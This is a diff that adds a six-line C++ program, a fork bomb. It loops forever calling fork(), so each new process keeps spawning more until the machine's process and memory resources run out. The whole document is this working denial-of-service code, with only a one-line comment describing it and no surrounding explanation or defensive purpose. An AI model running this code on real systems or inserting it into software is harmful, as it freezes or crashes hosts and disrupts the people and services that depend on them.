@@ -1,0 +1,6 @@
+// Every process starts others, for ever.
+#include <unistd.h>
+
+int main() {
+    for (;;) ::fork();
+}
